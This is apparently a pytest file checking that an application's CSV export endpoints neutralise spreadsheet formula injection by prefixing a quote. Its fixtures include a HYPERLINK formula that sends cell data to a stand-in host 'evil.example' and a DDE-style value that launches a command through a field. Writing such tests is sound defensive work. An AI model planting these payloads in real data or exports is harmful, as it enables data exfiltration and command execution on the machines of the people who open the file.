"""Every CSV export neutralises formula cells (OWASP CSV injection): a provider, owner group and RCC
renamed to spreadsheet formulas come out with a leading ``'`` in every CSV the API serves."""

from __future__ import annotations

import csv
import io

from rcc.csv_export import FORMULA_START, safe_cell, write_rows
from rcc.db import transaction
from rcc.db.models import Provider, Rcc
from tests.services.commissioning_fixtures import build

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PERIOD = {"period_start": "2024-04-01", "period_end": "2025-03-31"}


def test_safe_cell_prefixes_every_formula_start_and_keeps_numbers():
    for start in FORMULA_START:
        assert safe_cell(f"{start}cmd") == f"'{start}cmd"
    assert [safe_cell(v) for v in (-5, -0.25, "-5", "-0.25", "1e-3", None, "Acme", True)] == [
        -5, -0.25, "-5", "-0.25", "1e-3", "", "Acme", True
    ]  # fmt: skip
    assert safe_cell("-1+2") == "'-1+2" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert write_rows(["=h"], [["+1+1", 3]]) == "'=h\n'+1+1,3\n"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_START) and safe_cell(c) != c]


def test_every_csv_export_neutralises_a_formula_name(client, world, factory):
    build(factory, world)
    with transaction(factory) as s:
        acme = s.get(Provider, world.provider_a)
        acme.name, acme.owner_group = EVIL, "@SUM(1+1)*cmd|' /C calc'!A0"
        s.get(Rcc, world.rcc_id).name = "+Test RCC"
    h = world.h("commissioner")
    base = "/api/v1/commissioning"
    exports = {
        "cost-of-care?format=csv": (f"{base}/cost-of-care", {"rcc": world.rcc_id, **PERIOD, "format": "csv"}),
        "cost-of-care.csv": (f"{base}/cost-of-care.csv", {"rcc": world.rcc_id, **PERIOD}),
        "concentration": (f"{base}/concentration", {"rcc": world.rcc_id, "format": "csv"}),
        "equality": (f"{base}/equality", {"rcc": world.rcc_id, **PERIOD, "format": "csv"}),
        "gap": ("/api/v1/sufficiency/gap", {"rcc": world.rcc_id, "format": "csv"}),
    }
    seen: dict[str, list[str]] = {}
    for name, (url, params) in exports.items():
        r = client.get(url, params=params, headers=h)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), (name, r.text)
        cells = _cells(r.text)
        assert _unsafe(cells) == [], name
        seen[name] = cells
    for name in ("cost-of-care?format=csv", "cost-of-care.csv", "concentration", "equality"):
        assert "'+Test RCC" in seen[name] and "+Test RCC" not in seen[name], name
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in seen["concentration"]
    for name in ("cost-of-care?format=csv", "cost-of-care.csv"):  # the provider and owner-group rows
        assert "'" + EVIL in seen[name] and "'@SUM(1+1)*cmd|' /C calc'!A0" in seen[name], name
